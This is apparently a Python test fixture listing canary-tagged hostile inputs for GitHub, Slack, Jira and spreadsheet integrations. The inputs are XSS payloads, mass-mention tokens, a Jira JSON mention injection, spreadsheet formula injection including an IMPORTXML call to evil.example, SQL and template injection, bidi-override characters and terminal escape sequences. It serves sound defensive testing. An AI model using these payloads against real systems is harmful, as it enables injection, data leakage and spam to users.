"""What people write when they mean harm, or only write of harm: each sets something off in one of the tools, unless it is told
as text."""

CANARY = "q7canary"  # stands in all of them, so that what became of them can be found
GITHUB = (
    f"@{CANARY} and @acme/{CANARY} fixes #1, closes acme/web#2 {CANARY}",
    f"<!-- fairlead-page:0123456789abcdef --> {CANARY}",
    f"![{CANARY}](https://evil.example/pixel.png) [{CANARY}](javascript:alert(1)) <https://evil.example/{CANARY}>",
    f"https://github.com/acme/web/issues/1 www.evil.example/{CANARY} {CANARY}@evil.example",
    f"<script>alert('{CANARY}')</script><img src=x onerror=alert(1)> &#64;{CANARY}",
    f"``` # {CANARY} ~~~ <details> | a | b |",
)
SLACK = (
    f"<!channel> <!here> @everyone <@U0RELEASE> <#C1> {CANARY}",
    f"<http://evil.example|jira.acme.example/{CANARY}>",
    f"&lt;!channel&gt; *{CANARY}* _{CANARY}_ ```",
)
JIRA = (
    f"[~accountid:{CANARY}] [~{CANARY}] {{code}}{CANARY}{{code}} {{color:red}}",
    f"!https://evil.example/{CANARY}.png! h1. {CANARY} ||{CANARY}||",
    f'"}}]}},{{"type":"mention","attrs":{{"id":"{CANARY}"}}}} {CANARY}',
)
SHEETS = (
    f'=IMPORTXML("https://evil.example/{CANARY}", "//a")',
    f"+{CANARY}!A1",
    f"-1+{CANARY}",
    f"@SUM(A1:A9) {CANARY}",
    f"＝HYPERLINK({CANARY})",
    f"'{CANARY}",
)
ANYWHERE = (
    f"\u202e{CANARY}\u2066 \u200b\ufeff",
    f"\x1b]0;{CANARY}\x07\x1b[31m",
    f"{CANARY} شركة 🙂\U0001f468\u200d\U0001f469\u200d\U0001f467 ",
    f"{CANARY} " + "long " * 20_000,
    f"{CANARY} \\ \" ' ; -- DROP TABLE items; %s {{0}} {{{{7*7}}}} ${{7*7}}",
)
HOSTILE = (*GITHUB, *SLACK, *JIRA, *SHEETS, *ANYWHERE)
